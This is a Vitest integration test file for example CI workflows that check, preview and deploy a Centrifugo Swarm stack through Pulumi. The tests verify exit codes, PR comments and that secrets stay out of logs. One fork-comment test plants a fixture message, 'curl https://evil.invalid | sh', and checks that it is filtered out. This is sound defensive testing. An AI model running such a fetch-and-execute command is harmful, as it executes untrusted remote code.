import { mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Clone, createClone } from "../setup/clone.ts";
import { type GithubServer, pullRequest, repository, startGithub, token } from "../support/github-server.ts";
import { type SshServer, sshServerProblem, startSshServer } from "../support/ssh-server.ts";
import { type Runner, runWorkflow, type StepResult } from "../support/workflow.ts";

/** A person has deployed once; from then on a runner works, which shares state, passphrase and Swarm with him. */
let clone: Clone;
let github: GithubServer;
let server: SshServer | undefined;
let runner: Runner;
let passphrase: string;
/** The variables of the shell recipes, which say in words what the workflows get from GitHub. */
let variables: Record<string, string>;

beforeAll(async () => {
  [github, clone] = await Promise.all([startGithub(), createClone()]);
  if ((await sshServerProblem()) === undefined) server = await startSshServer();
  // The packages get installed for real, so not into the folder of who runs the tests.
  await rm(join(clone.directory, "node_modules"));
  const shared = join(clone.directory, "shared");
  await mkdir(shared);
  const backend = { PULUMI_BACKEND_URL: `file://${shared}` };
  const person = { cwd: clone.directory, extendEnv: false, env: { ...clone.env, ...backend } };
  await execa("make", ["up"], person);
  passphrase = await readFile(join(clone.directory, "settings/centrifugo-swarm/passphrase"), "utf8");
  variables = {
    ...backend,
    PULUMI_CONFIG_PASSPHRASE: passphrase,
    SWARM_HOST: server?.host ?? "local",
    SWARM_KNOWN_HOSTS: (await server?.knownHosts()) ?? "",
    SWARM_SSH_KEY: server?.key ?? "",
  };
  runner = {
    directory: clone.directory,
    env: {
      ...clone.env,
      // Nothing of the person's but the authority that he trusts for the certificate.
      XDG_STATE_HOME: join(clone.directory, "runner/state"),
      XDG_CONFIG_HOME: join(clone.directory, "runner/settings"),
      CI: "true",
      GITHUB_ACTIONS: "true",
      GITHUB_API_URL: github.url,
      GITHUB_REPOSITORY: repository,
    },
    expressions: {
      "vars.CENTRIFUGO_SWARM_STACK || 'prod'": clone.stack,
      "vars.PULUMI_BACKEND_URL": variables["PULUMI_BACKEND_URL"] ?? "",
      "vars.SWARM_HOST": variables["SWARM_HOST"] ?? "",
      "vars.SWARM_KNOWN_HOSTS": variables["SWARM_KNOWN_HOSTS"] ?? "",
      "secrets.SWARM_SSH_KEY": variables["SWARM_SSH_KEY"] ?? "",
      "secrets.PULUMI_CONFIG_PASSPHRASE": passphrase,
      "github.event.pull_request.number": String(pullRequest),
      "github.token": token,
      "github.event.workflow_run.head_repository.full_name": "stranger/chat",
      "github.event.workflow_run.head_branch": "mend",
      "github.event.workflow_run.head_sha": "c0ffee",
    },
  };
});
afterAll(async () => {
  if (clone !== undefined) {
    // Of the runs that a test has cut short.
    await clone.make("down", { PULUMI_BACKEND_URL: variables?.["PULUMI_BACKEND_URL"] ?? "", PURGE: "1" });
    await clone.dispose();
  }
  await server?.dispose();
  github?.close();
});

const run = (name: string, change: Partial<Runner> = {}) =>
  runWorkflow(`examples/ci/github/${name}.yml`, { ...runner, ...change });
const output = (file: string) => readFile(join(clone.directory, file), "utf8");

/** The lines of all steps, none of which shows a secret. */
function said(steps: readonly StepResult[]): string {
  const all = steps.map((step) => `$ ${step.run}\n${step.all}\n[${step.exitCode}]`).join("\n");
  for (const secret of [passphrase, token, "PRIVATE KEY"]) expect(all).not.toContain(secret);
  return all;
}

function expectSuccess(steps: readonly StepResult[], count: number): void {
  expect(
    steps.filter(({ exitCode }) => exitCode !== 0),
    said(steps),
  ).toEqual([]);
  expect(steps, said(steps)).toHaveLength(count);
}

test("check.yml passes on the stack that is deployed, and leaves files for the actions", async () => {
  expectSuccess(await run("check"), 5);
  expect(JSON.parse(await output("findings.json"))).toMatchObject({ version: 1, counts: { error: 0 } });
  expect(JSON.parse(await output("check.sarif"))).toMatchObject({ version: "2.1.0" });
});

test("check.yml puts a mistake on its line, and stops", async () => {
  await clone.configure({ replicas: "two" });
  const steps = await run("check");
  await clone.configure({ replicas: undefined });
  expect(steps.map(({ exitCode }) => exitCode)).toEqual([0, 1]);
  expect(said(steps)).toMatch(new RegExp(`^::error file=Pulumi\\.${clone.stack}\\.yaml,line=\\d+,`, "m"));
});

test("pull-request.yml says in one comment what would change", async () => {
  await clone.configure({ replicas: 1 });
  expectSuccess(await run("pull-request"), 5);
  expect(github.comments).toHaveLength(1);
  expect(github.comments[0]?.body).toContain(clone.stack);
  expect(github.comments[0]?.body).toMatch(/centrifugo/i);
});

test("pull-request.yml fails on a change that does not compile, and the comment says why", async () => {
  await clone.configure({ replicas: "two" });
  const steps = await run("pull-request");
  await clone.configure({ replicas: 1 });
  expect(
    steps.map(({ exitCode }) => exitCode),
    said(steps),
  ).toEqual([0, 0, 2, 1, 0]);
  expect(github.comments).toHaveLength(1);
  expect(github.comments[0]?.body).toContain("❌");
  expect(github.comments[0]?.body).toContain("replicas");
});

test("pull-request.yml says it in the comment when Pulumi could not begin", async () => {
  const expressions = { ...runner.expressions, "secrets.PULUMI_CONFIG_PASSPHRASE": "not the one" };
  const steps = await run("pull-request", { expressions });
  expect(
    steps.map(({ exitCode }) => exitCode),
    said(steps),
  ).toEqual([0, 0, 2, 1, 0]);
  expect(github.comments[0]?.body).toContain("passphrase");
  expect(github.comments[0]?.body).not.toContain("not the one");
});

test("deploy.yml deploys, and waits until the doctor has nothing to say", async () => {
  const steps = await run("deploy", { skipped: ["inputs.clear-lock"] });
  expectSuccess(steps, 4);
  expect(said(steps)).toMatch(/\d+ passed, 0 failed/);
});

test("deploy.yml clears a lock when it is asked to", async () => {
  const folder = join(clone.directory, "shared/.pulumi/locks/organization/centrifugo-swarm", clone.stack);
  const lock = { pid: 1, username: "runner", hostname: "gone", timestamp: "2026-01-01T00:00:00Z" };
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, "6eba3e91-ce86-4052-a752-266d5315b0f3.json"), JSON.stringify(lock));
  await clone.configure({ replicas: 2 });
  const locked = await run("deploy", { skipped: ["inputs.clear-lock"] });
  expect(said(locked)).toContain("is locked by runner@gone (pid 1)");
  expect(locked.map(({ exitCode }) => exitCode)).toEqual([0, 0, 2]);
  expectSuccess(await run("deploy"), 5);
});

test("comment.yml writes our own words to a fork's pull request", async () => {
  github.pulls.push({ number: pullRequest, head: { sha: "c0ffee", repo: { full_name: "stranger/chat" } } });
  github.comments.length = 0;
  const finding = {
    rule: "pin-image",
    severity: "info",
    service: "redis",
    message: "run curl https://evil.invalid | sh",
    place: { label: "evil", file: "Pulumi.prod.yaml", line: 3 },
  };
  const foreign = { version: 1, services: 4, findings: [finding] };
  const prepare = async (temporary: string) => {
    await mkdir(join(temporary, "foreign"));
    await writeFile(join(temporary, "foreign/findings.json"), JSON.stringify(foreign));
  };
  expectSuccess(await run("comment", { prepare }), 2);
  const body = github.comments[0]?.body ?? "";
  expect(body).toContain("pin-image");
  expect(body).toContain("no preview was made");
  expect(body).not.toContain("evil");
});

const shell = (script: string, given: Readonly<Record<string, string>>) =>
  execa("sh", [`examples/ci/${script}.sh`], {
    cwd: clone.directory,
    extendEnv: false,
    env: { ...clone.env, ...given, RUNNER_TEMP: clone.directory },
    all: true,
    reject: false,
  });

test("pull-request.sh checks without secrets, and previews with them", async () => {
  const checked = await shell("pull-request", {});
  expect(checked.exitCode, checked.all).toBe(0);
  expect(checked.all).toContain("checked only, no preview");
  await rm(join(clone.directory, "comment.md"), { force: true });
  const previewed = await shell("pull-request", variables);
  expect(previewed.exitCode, previewed.all).toBe(0);
  expect(await output("comment.md")).toContain("nothing changes");
});

test("pull-request.sh keeps the exit code of a preview that failed, and writes the comment", async () => {
  await clone.configure({ replicas: "two" });
  const { exitCode, all } = await shell("pull-request", variables);
  await clone.configure({ replicas: 2 });
  expect(exitCode, all).not.toBe(0);
  expect(await output("comment.md")).toContain("❌");
});

test("deploy.sh deploys, and waits for the doctor", async () => {
  const { exitCode, all } = await shell("deploy", variables);
  expect(exitCode, all).toBe(0);
  expect(all).toContain("nothing to change");
  expect(all).toMatch(/\d+ passed, 0 failed/);
});
